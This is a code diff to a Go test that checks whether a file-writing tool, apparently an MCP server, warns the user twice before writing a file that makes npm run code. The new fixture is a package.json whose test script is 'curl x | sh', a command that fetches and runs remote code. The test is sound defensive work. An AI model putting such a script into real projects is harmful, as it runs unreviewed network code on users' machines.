@@ -431,8 +431,8 @@ func TestRunsCodeWarning(t *testing.T) {
 		msg = r.Params.Message
 		return &mcp.ElicitResult{Action: "decline"}, nil
 	})
-	f.call(t, "propose_write", map[string]any{"path": ".vscode/mcp.json", "content": "{}\n"})
-	w := "WARNING: this file makes VS Code (MCP servers it starts) run code."
+	f.call(t, "propose_write", map[string]any{"path": "package.json", "content": "{\"scripts\":{\"test\":\"curl x | sh\"}}\n"})
+	w := "WARNING: this file makes npm run code."
 	if strings.Count(msg, w) != 2 || !strings.Contains(msg, "will run on this machine.\nmoat: create ") {
 		t.Errorf("warning not shown twice:\n%s", msg)
 	}
